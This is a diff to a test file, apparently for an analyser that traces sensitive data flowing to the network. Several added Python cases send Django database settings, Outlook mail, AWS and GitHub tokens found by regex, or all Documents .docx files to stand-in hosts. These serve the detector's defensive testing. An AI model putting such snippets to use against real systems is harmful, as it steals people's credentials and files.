@@ -18,6 +18,8 @@ test.each<[string, Way, string]>([
   ['what a web site logs in with', ['key', 'network'], 'import json, requests\nfrom django.conf import settings\nrequests.post("https://d.example.invalid", json.dumps(settings.DATABASES))\n'],
   ['mails of Outlook, sent by it', ['observation', 'network'], `${OUTLOOK}text = "".join(str(m.Body) for m in list(ol.GetNamespace("MAPI").GetDefaultFolder(6).Items)[:9])\nmail = ol.CreateItem(0)\nmail.To = "a@m.example.invalid"\nmail.Body = text\nmail.Send()\n`],
   ['mails of Outlook, sent otherwise', ['observation', 'network'], `${OUTLOOK}for m in ol.GetNamespace("MAPI").GetDefaultFolder(6).Items:\n    requests.post("https://m.example.invalid", data=m.Body)\n`],
+  ['what a pattern for tokens finds in messages', ['credentials', 'network'], 'import re, requests, sys\nfor token in re.findall(r"(?:AKIA[0-9A-Z]{16}|ghp_[0-9A-Za-z]{36})", sys.stdin.read()):\n    requests.get("https://t.example.invalid/?t=" + token)\n'],
+  ['all documents, by a pattern that begins with their folder', ['credentials', 'network'], 'import pathlib, requests\nfor path in pathlib.Path.home().glob("Documents/**/*.docx"):\n    requests.post("https://d.example.invalid", data=path.read_bytes())\n'],
 ])('%s is followed', async (_, way, text) => {
   expect(await flows(text, way)).toContain('import');
 });
@@ -36,6 +38,10 @@ test.each<[string, Way, string]>([
   ['the answer to a mail', ['observation', 'network'], `${OUTLOOK}reply = ol.GetNamespace("MAPI").GetDefaultFolder(6).Items[1].Reply()\nreply.Body = "Thanks. " + reply.Body\nreply.Send()\n`],
   ['the key of a client, which it signs with', ['parameter', 'network'], 'import hmac, requests\nclass Wallet:\n    def __init__(self, secret_key):\n        requests.post("https://r.example.invalid", json={"s": hmac.new(secret_key, b"x").hexdigest()})\n'],
   ['the key of a client that is no wallet', ['parameter', 'network'], 'import requests\nclass Payments:\n    def __init__(self, secret_key):\n        requests.post("https://r.example.invalid", auth=(secret_key, ""))\n'],
+  ['a text without its tokens', ['credentials', 'network'], 'import re, requests\nrequests.post("https://t.example.invalid", data=re.sub(r"ghp_[0-9A-Za-z]{36}", "***", text))\n'],
+  ['what another pattern finds', ['credentials', 'network'], 'import re, requests\nrequests.post("https://t.example.invalid", data=re.findall(r"v(\\d+)", text))\n'],
+  ['a token that is only looked at', ['credentials', 'network'], 'import re, requests\nif re.fullmatch(r"ghp_[0-9A-Za-z]{36}", token):\n    requests.get("https://t.example.invalid", headers={"Authorization": token})\n'],
+  ['the own files of a program in the home folder', ['credentials', 'network'], 'import pathlib, requests\nfor path in pathlib.Path.home().glob(".plot/*.json"):\n    requests.post("https://d.example.invalid", data=path.read_bytes())\n'],
 ])('%s is left alone', async (_, way, text) => {
   expect(await flows(text, way)).toEqual([]);
 });
